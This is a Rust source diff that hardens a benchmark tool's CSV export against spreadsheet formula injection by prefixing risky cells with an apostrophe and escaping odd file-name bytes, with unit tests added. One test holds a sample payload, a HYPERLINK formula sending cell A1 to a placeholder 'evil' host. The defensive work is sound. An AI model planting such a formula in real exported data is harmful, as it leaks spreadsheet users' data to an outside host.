@@ -3,10 +3,15 @@
 //! 4180: a header line, comma-separated fields, CRLF line ends, fields with
 //! a comma, a quote, a line break or surrounding spaces quoted, quotes
 //! doubled. Axis columns are the union of every benchmark's axes (empty
-//! where a state has no such axis).
+//! where a state has no such axis). A text that a spreadsheet would run as
+//! a formula starts with `'`; the bytes of a non-UTF-8 file name show as
+//! `\xff`, as on stdout.
+
+use std::borrow::Cow;
 
 use crate::deciding::repetitions::SideStats;
 use crate::deciding::report::{Report, StateRecord};
+use crate::text::path_text::bytes_escaped;
 
 /// The columns before the axes.
 const KEY_COLUMNS: [&str; 5] = ["benchmark", "device", "device_name", "state", "occurrence"];
@@ -31,15 +36,54 @@ const VALUE_COLUMNS: [&str; 16] = [
     "change_high",
 ];
 
-/// A field quoted where RFC 4180 needs it.
+/// A field as written: safe for a spreadsheet, then quoted where RFC 4180
+/// needs it.
 fn field(text: &str) -> String {
+    let text = bytes_escaped(text);
+    let text = not_a_formula(&text);
     let needs_quotes =
         text.contains([',', '"', '\n', '\r']) || text.starts_with(' ') || text.ends_with(' ');
     if needs_quotes {
         format!("\"{}\"", text.replace('"', "\"\""))
     } else {
-        text.to_string()
+        text.into_owned()
     }
+}
+
+/// Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts
+/// with `=`, `+`, `-` or `@` as a formula, and some strip a leading tab or
+/// carriage return first: a benchmark named `=HYPERLINK(...)` would become
+/// a live link that carries other cells' content away. Such a text gets a
+/// leading `'` (OWASP's advice), which spreadsheets show as text. A plain
+/// number (`-5`, `-1.5e-7`) is no formula and stays a number.
+fn not_a_formula(text: &str) -> Cow<'_, str> {
+    let risky = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && !is_plain_number(text) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
+
+/// A decimal number with an optional sign and exponent, nothing else.
+fn is_plain_number(text: &str) -> bool {
+    let unsigned = text.strip_prefix(['+', '-']).unwrap_or(text);
+    let (mantissa, exponent) = match unsigned.split_once(['e', 'E']) {
+        Some((mantissa, exponent)) => (mantissa, Some(exponent)),
+        None => (unsigned, None),
+    };
+    let digits = |part: &str| part.bytes().all(|b| b.is_ascii_digit());
+    let mantissa_ok = match mantissa.split_once('.') {
+        Some((whole, fraction)) => {
+            !(whole.is_empty() && fraction.is_empty()) && digits(whole) && digits(fraction)
+        }
+        None => !mantissa.is_empty() && digits(mantissa),
+    };
+    let exponent_ok = exponent.is_none_or(|e| {
+        let e = e.strip_prefix(['+', '-']).unwrap_or(e);
+        !e.is_empty() && digits(e)
+    });
+    mantissa_ok && exponent_ok
 }
 
 /// A number as Rust prints it shortest (it reads back exactly); empty
@@ -168,7 +212,41 @@ mod tests {
         assert_eq!(field("two\nlines"), "\"two\nlines\"");
         assert_eq!(field(" padded"), "\" padded\"");
         assert_eq!(number(Some(0.1)), "0.1");
+        assert_eq!(number(Some(-1.5e-7)), "-0.00000015");
         assert_eq!(number(Some(f64::NAN)), "");
         assert_eq!(number(None), "");
+    }
+
+    #[test]
+    fn texts_a_spreadsheet_would_run_start_with_a_quote() {
+        let link = "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")";
+        assert_eq!(
+            field(link),
+            "\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\""
+        );
+        for risky in [
+            "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "+", "-e5", "1-",
+        ] {
+            let written = field(risky);
+            let unquoted = written.trim_matches('"');
+            assert!(
+                unquoted.starts_with('\'')
+                    || !unquoted.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{risky:?} -> {written:?}"
+            );
+        }
+        for number in ["-5", "+3", "-1.5", "-.5", "-1e3", "-2.5E-7", "0.1", "42"] {
+            assert_eq!(field(number), number);
+        }
+        assert_eq!(field("-1e"), "'-1e");
+        assert_eq!(field("-1.2.3"), "'-1.2.3");
+    }
+
+    #[test]
+    fn odd_file_name_bytes_show_escaped() {
+        let name = crate::text::path_text::to_text(std::os::unix::ffi::OsStrExt::from_bytes(
+            b"r\xff.json",
+        ));
+        assert_eq!(field(&name), "r\\xff.json");
     }
 }
